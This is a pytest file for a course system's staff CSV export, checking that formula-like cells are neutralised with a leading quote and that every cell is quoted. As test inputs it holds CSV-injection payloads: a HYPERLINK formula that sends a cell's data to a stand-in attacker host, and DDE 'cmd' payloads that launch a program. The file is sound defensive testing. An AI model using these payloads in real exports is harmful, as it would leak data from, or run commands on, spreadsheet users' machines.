"""The one CSV writer of staff exports: a cell that a spreadsheet would run as a formula is written as text."""
import csv
import io

import pytest

from courses.core.spreadsheet import csv_text, safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("https://evil.example/?"&A2,"x")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "=", "-x"])
def test_a_cell_starting_like_a_formula_gets_a_leading_quote(text):
    """OWASP's = + - @ tab CR: the cell is the same text with "'" in front, which spreadsheets show as text."""
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value, text", [("-2.5", "-2.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), (-4, "-4"),
                                         (None, ""), (10, "10"), ("Kim, Min", "Kim, Min"), ("a=b", "a=b"),
                                         ("김민", "김민"), (" =1", " =1")])
def test_numbers_and_ordinary_text_are_left_as_they_are(value, text):
    """A grade stays a number; text that does not start like a formula is unchanged."""
    assert safe_cell(value) == text


def test_csv_text_quotes_and_escapes_every_cell_with_crlf_line_ends():
    text = csv_text([["name", "total"], ['=HYPERLINK("u","x")', 10], ["Kim, Min", None]])
    assert text.endswith("\r\n") and text.count("\r\n") == 3
    assert list(csv.reader(io.StringIO(text))) == [["name", "total"], ["'=HYPERLINK(\"u\",\"x\")", "10"],
                                                   ["Kim, Min", ""]]


def test_every_cell_is_quoted_so_no_list_separator_splits_it():
    """Excel with a ';' list separator split an unquoted cell "x=1;=cmd|' /C calc'!A0" at ';' and ran
    the second half; quoted, it stays one cell under ',', ';' or a tab, and its text is unchanged."""
    cell = "x=1;=cmd|' /C calc'!A0; y=2"
    text = csv_text([["answer", "points"], [cell, 2.5], [None, "-1"]])
    assert text == '"answer","points"\r\n"x=1;=cmd|\' /C calc\'!A0; y=2","2.5"\r\n"","-1"\r\n'
    for separator in (";", "\t", "|"):
        cells = [c for r in csv.reader(io.StringIO(text), delimiter=separator) for c in r]
        assert not any(c.startswith("=") for c in cells), cells
    assert list(csv.reader(io.StringIO(text)))[1] == [cell, "2.5"]
